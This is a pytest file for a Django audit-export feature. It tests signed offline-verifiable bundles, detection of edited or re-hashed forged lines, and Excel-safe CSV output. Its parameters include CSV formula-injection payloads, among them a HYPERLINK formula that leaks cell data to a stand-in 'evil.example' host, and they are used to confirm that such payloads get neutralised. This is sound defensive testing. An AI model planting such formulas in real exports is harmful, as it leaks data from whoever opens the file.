"""Exports: every format is an event, CSV is Excel-safe, bundles verify offline and detect edits."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import timedelta

import pytest
from django.core.management import CommandError, call_command
from django.utils import timezone

from audit.bundle import verify_bundle
from audit.chain import event_hash
from audit.exports import audit_export_begin, audit_export_to_file, neutralise
from audit.filters import AuditFilters
from audit.models import AuditEvent
from audit.services import audit_event_record, change_record_sync
from audit.signing import current_public_key_pem

pytestmark = pytest.mark.django_db


def _verify(path: str):
    """Verify a bundle offline against the published (pinned) public key."""
    return verify_bundle(path, public_key_pem_text=current_public_key_pem())


def _events(n: int, **kwargs) -> list[AuditEvent]:
    return [audit_event_record(action="promotion.merged", message=f"merge {i}", **kwargs) for i in range(n)]


def _rewrite_member(path, name: str, transform) -> None:
    """Rewrite one member of a zip (what an attacker with the file would do)."""
    with zipfile.ZipFile(path) as zf:
        members = {n: zf.read(n) for n in zf.namelist()}
    members[name] = transform(members[name])
    with zipfile.ZipFile(path, "w") as zf:
        for n, data in members.items():
            zf.writestr(n, data)


def _bundle(tmp_path, **filters) -> str:
    out = tmp_path / "bundle.zip"
    call_command(
        "audit_export", "--format", "bundle", "--out", str(out), *[f"--{k}={v}" for k, v in filters.items()]
    )
    return str(out)


def test_a_bundle_of_the_whole_ledger_verifies_offline(tmp_path):
    _events(5, app="payments-api", environment="prod")
    change_record_sync(kind="promotion", source_type="promotion", source_id=1, app="payments-api", environment="prod",
                       requester_name="alice", approvers=["bob"])  # fmt: skip
    path = _bundle(tmp_path)
    report = _verify(path)
    assert report.ok, report.problems
    assert report.count == 6  # five events and the audit.exported event itself
    with zipfile.ZipFile(path) as zf:
        manifest = json.loads(zf.read("manifest.json"))
        lines = zf.read("events.jsonl").decode().splitlines()
        changes = list(csv.DictReader(io.StringIO(zf.read("change-records.csv").decode())))
    assert manifest["count"] == 6 and manifest["first"]["sequence"] == 1 and manifest["last"]["sequence"] == 6
    assert manifest["checkpoint"]["head_sequence"] == 6
    assert json.loads(lines[-1])["action"] == "audit.exported"
    assert {"hash", "prev_hash", "before", "after", "correlation_id"} <= set(json.loads(lines[0]))
    assert changes[0]["requester_name"] == "alice" and changes[0]["separation_of_duties_ok"] == "true"
    call_command("audit_verify", path)


def test_editing_one_exported_line_is_detected_offline_naming_the_sequence(tmp_path):
    _events(6)
    path = _bundle(tmp_path)

    def edit(data: bytes) -> bytes:
        lines = data.decode().splitlines(keepends=True)
        record = json.loads(lines[3])
        record["message"] = "nothing happened"
        lines[3] = json.dumps(record) + "\n"
        return "".join(lines).encode()

    _rewrite_member(path, "events.jsonl", edit)
    report = _verify(path)
    assert not report.ok
    assert report.first_problem.sequence == 4
    with pytest.raises(CommandError, match="sequence 4"):
        call_command("audit_verify", path)


def test_a_rehashed_forged_line_breaks_the_next_link_and_the_signature(tmp_path):
    _events(6)
    path = _bundle(tmp_path)

    def forge(data: bytes) -> bytes:
        lines = data.decode().splitlines(keepends=True)
        record = json.loads(lines[2])
        record["actor_name"] = "someone-else"
        record["hash"] = event_hash(record)
        lines[2] = json.dumps(record) + "\n"
        return "".join(lines).encode()

    _rewrite_member(path, "events.jsonl", forge)
    report = _verify(path)
    assert report.first_problem.sequence == 4
    messages = " ".join(str(p) for p in report.problems)
    assert "prev_hash" in messages and "sha256" in messages


def test_a_tampered_manifest_fails_the_detached_signature(tmp_path):
    _events(3)
    path = _bundle(tmp_path)
    _rewrite_member(path, "manifest.json", lambda data: data.replace(b'"count": 4', b'"count": 3'))
    report = _verify(path)
    assert any("signature" in str(p) for p in report.problems)


def test_a_bundle_checked_against_another_published_key_fails(tmp_path):
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    from audit.bundle import public_key_pem

    _events(2)
    path = _bundle(tmp_path)
    other = public_key_pem(Ed25519PrivateKey.generate().public_key())
    assert not verify_bundle(path, public_key_pem_text=other).ok
    assert verify_bundle(path, public_key_pem_text=current_public_key_pem()).ok


def test_an_export_of_a_filtered_period_verifies(tmp_path):
    _events(4)
    middle = timezone.now()
    _events(4, app="checkout", environment="prod")
    path = _bundle(tmp_path, since=middle.strftime("%Y-%m-%dT%H:%M:%S.%f"))
    report = _verify(path)
    assert report.ok, report.problems
    with zipfile.ZipFile(path) as zf:
        manifest = json.loads(zf.read("manifest.json"))
    assert manifest["contiguous"] is True
    assert manifest["first"]["sequence"] == 5
    assert manifest["first"]["prev_hash"] == AuditEvent.objects.get(sequence=4).hash
    assert manifest["filters"]["since"].startswith(middle.strftime("%Y-%m-%dT%H:%M"))


def test_an_export_filtered_by_environment_verifies_every_event(tmp_path):
    _events(3, environment="dev")
    _events(3, environment="prod")
    _events(1, environment="dev")
    path = _bundle(tmp_path, env="prod")
    report = _verify(path)
    assert report.ok, report.problems
    assert report.count == 3
    with zipfile.ZipFile(path) as zf:
        assert json.loads(zf.read("manifest.json"))["contiguous"] is False


def test_a_period_that_ended_yesterday_excludes_today(tmp_path):
    _events(2)
    yesterday = (timezone.now() - timedelta(days=1)).strftime("%Y-%m-%d")
    path = _bundle(tmp_path, until=yesterday)
    report = _verify(path)
    assert report.ok and report.count == 0


@pytest.mark.parametrize(
    "payload",
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"],
)
def test_csv_cells_that_start_a_formula_are_neutralised(tmp_path, payload):
    audit_event_record(action="inventory.config_applied", target_label=payload, message=payload, app=payload)
    out = tmp_path / "events.csv"
    call_command("audit_export", "--format", "csv", "--out", str(out))
    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    row = next(r for r in rows if r["action"] == "inventory.config_applied")
    for column in ("target_label", "message", "app"):
        assert row[column] == "'" + payload
    assert neutralise("plain text") == "plain text"
    assert row["sequence"] == "1"  # numbers stay numbers


def test_jsonl_export_carries_every_field_and_recomputes(tmp_path):
    audit_event_record(
        action="drift.detected", before={"a": 1}, after={"a": [1, "ü"]}, shas=["a" * 40], out_of_band=True
    )
    out = tmp_path / "events.jsonl"
    call_command("audit_export", "--format", "jsonl", "--out", str(out))
    records = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert [r["action"] for r in records] == ["drift.detected", "audit.exported"]
    first = records[0]
    assert first["after"] == {"a": [1, "ü"]} and first["out_of_band"] is True
    assert event_hash(first) == first["hash"]
    assert records[1]["prev_hash"] == first["hash"]


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "pdf", "bundle"])
def test_every_export_writes_audit_exported_before_its_data(tmp_path, fmt):
    _events(2, app="payments-api", environment="prod")
    out = tmp_path / f"out.{fmt}"
    call_command("audit_export", "--format", fmt, "--out", str(out), "--env", "prod")
    event = AuditEvent.objects.get(action="audit.exported")
    assert event.after == {"format": fmt, "filters": {"env": "prod"}, "scoped": False}
    assert event.actor_name == "system:audit_export"
    assert out.stat().st_size > 0


def test_the_pdf_change_report_holds_the_evidence(tmp_path):
    from reportlab.lib.pagesizes import A4  # noqa: F401 - reportlab is installed

    now = timezone.now()
    change_record_sync(
        kind="promotion", source_type="promotion", source_id=9, app="payments-api", environment="prod",
        requester_name="alice", approvers=["bob"], pr_number=12, pr_url="http://forge/acme/gitops/pull/12",
        requested_at=now - timedelta(hours=1), healthy_at=now, outcome="succeeded",
        gates=[{"name": "ci", "passed": True, "detail": "3/3"}],
    )  # fmt: skip
    audit_event_record(action="promotion.requested", target_type="promotion", target_id=9, message="asked")
    job = audit_export_begin(fmt="pdf", filters=AuditFilters(env="prod"), scope=None, system_name="test")
    out = tmp_path / "report.pdf"
    assert audit_export_to_file(job, str(out), created_by="test") == {"change_records": 1}
    assert out.read_bytes().startswith(b"%PDF")


def test_export_streams_in_keyset_batches(tmp_path):
    from audit.selectors import audit_export_events, audit_export_plan

    _events(25)
    plan = audit_export_plan(filters=AuditFilters(), scope=None)
    assert [e.sequence for e in audit_export_events(plan, batch=4)] == list(range(1, 26))


def test_bad_filters_are_refused_by_the_command(tmp_path):
    with pytest.raises(CommandError, match="not a date"):
        call_command(
            "audit_export", "--format", "csv", "--out", str(tmp_path / "x.csv"), "--since", "last tuesday"
        )


def test_the_offline_verifier_runs_without_django(tmp_path):
    import os
    import subprocess
    import sys
    from pathlib import Path

    from audit.signing import current_public_key_pem

    root = Path(__file__).resolve().parents[2]
    _events(3)
    path = _bundle(tmp_path)
    key = tmp_path / "key.pem"
    key.write_text(current_public_key_pem())
    env = {k: v for k, v in os.environ.items() if k not in ("DJANGO_SETTINGS_MODULE", "DATABASE_URL")}

    def run(*args: str) -> subprocess.CompletedProcess:
        return subprocess.run(
            [sys.executable, *args], cwd=root, env=env, capture_output=True, text=True, timeout=60
        )

    probe = run("-c", "import sys, audit.bundle; assert not any(m.startswith('django') for m in sys.modules)")
    assert probe.returncode == 0, probe.stderr
    ok = run("-m", "audit.bundle", path, "--public-key", str(key))
    assert ok.returncode == 0 and "OK: 4 events" in ok.stdout, ok.stderr
    _rewrite_member(path, "events.jsonl", lambda data: data.replace(b"merge 1", b"merge 9"))
    bad = run("-m", "audit.bundle", path, "--public-key", str(key))
    assert bad.returncode == 1 and "FAILED: sequence 2" in bad.stderr
